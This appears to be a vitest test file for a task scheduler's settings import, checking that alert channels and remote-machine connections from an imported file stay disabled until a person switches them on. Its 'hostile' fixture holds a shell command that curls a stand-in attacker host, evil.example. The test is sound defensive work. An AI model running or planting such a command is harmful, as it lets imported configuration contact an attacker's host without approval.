import { afterEach, beforeEach, expect, it } from 'vitest';
import { importOptionsSchema } from '../../contract/transfer.ts';
import { memoryApplication, type MemoryApplication } from '../../testing/memory-application.ts';

let there: MemoryApplication;
let here: MemoryApplication;
beforeEach(() => ([there, here] = [memoryApplication(), memoryApplication()]));
afterEach(() => [there, here].forEach((application) => application.dispose()));

const draft = (name: string, schedule: string) => ({
  ...{ name, schedule, timezone: 'UTC', tool: 'shell:run', parameters: { command: 'true' } },
});
const added = async ({ tasks }: MemoryApplication, name: string, schedule = 'every day at 9am') =>
  (await (await tasks()).create(draft(name, schedule), 'test')).task;

const hostile = {
  alerts: {
    channels: { evil: { kind: 'command', command: ['sh', '-c', 'curl evil.example'] }, desk: { kind: 'desktop' } },
    rules: [{ events: ['failed'], channels: ['evil'] }],
  },
  machines: { far: { host: 'evil.example', notify: true } },
};

it.each([
  [{}, false],
  [{ keepActive: true }, true],
])('channels and connections of another machine act only after a person switched them on (%j)', async (given, acts) => {
  const { document } = (await there.transfer()).exported({ withSecrets: false });
  const text = JSON.stringify({ ...document, settings: hostile });
  const transfer = await here.transfer();
  const source = await transfer.readContent(Buffer.from(text), 'export.json', null);
  const options = importOptionsSchema.parse(given);
  const { changes } = await transfer.apply(source, options, 'test');
  const { alerts, machines } = here.settings.read();
  expect(alerts.channels['evil']).toEqual({ ...hostile.alerts.channels.evil, ...(acts ? {} : { enabled: false }) });
  expect(alerts.channels['desk']).toEqual({ kind: 'desktop' });
  expect(machines['far']).toMatchObject({ host: 'evil.example', notify: acts });
  const notes = changes.flatMap((change) => change.notes);
  expect(notes).toEqual(
    acts
      ? []
      : [
          'Imported from another machine and switched off: evil. Check it, then switch it on.',
          expect.stringContaining('Imported without notifications of far'),
        ],
  );
  expect((await transfer.preview(source, options)).changes.map(({ action }) => action)).toEqual(['skip', 'skip']);
});

it('rules, groups and tasks with channels of their own are those of the imported tasks, also of copies', async () => {
  const [backup, report] = [await added(there, 'Backup'), await added(there, 'Report', 'every monday at 8am')];
  const alerts = await there.alerts();
  await alerts.setChannel('ops', { kind: 'command', command: ['true'] }, 'test');
  const rules = [{ events: ['failed' as const], channels: ['ops'], tasks: [backup.id], groups: [report.timingId] }];
  await alerts.configure({ rules, overrides: { [report.id]: { channels: [] } } }, 'test');
  const { document } = (await there.transfer()).exported({ withSecrets: false });

  // Ids of tests are counted, so those here would repeat those of the file.
  for (let count = 0; count < 20; count += 1) here.newId();
  // The task here has the same name and id and another command, so the one of the file becomes a copy with a new id.
  here.store.update((file) => Object.assign(file, structuredClone(there.store.read())));
  here.store.update(({ tasks }) => Object.assign(tasks[backup.id] ?? {}, { parameters: { command: 'other' } }));
  const transfer = await here.transfer();
  const source = await transfer.readContent(Buffer.from(JSON.stringify(document)), 'export.json', null);
  await transfer.apply(source, importOptionsSchema.parse({ policy: 'copy' }), 'test');

  const copy = Object.values(here.store.read().tasks).find(
    ({ parameters, id }) => parameters['command'] === 'true' && id !== report.id,
  );
  const settings = here.settings.read().alerts;
  expect(copy?.id).not.toBe(backup.id);
  expect(settings.rules).toMatchObject([{ tasks: [copy?.id], groups: [report.timingId] }]);
  const [muted, ...none] = Object.keys(settings.overrides);
  expect(here.store.read().tasks[muted ?? '']?.name).toContain('Report');
  expect(none).toEqual([]);
});
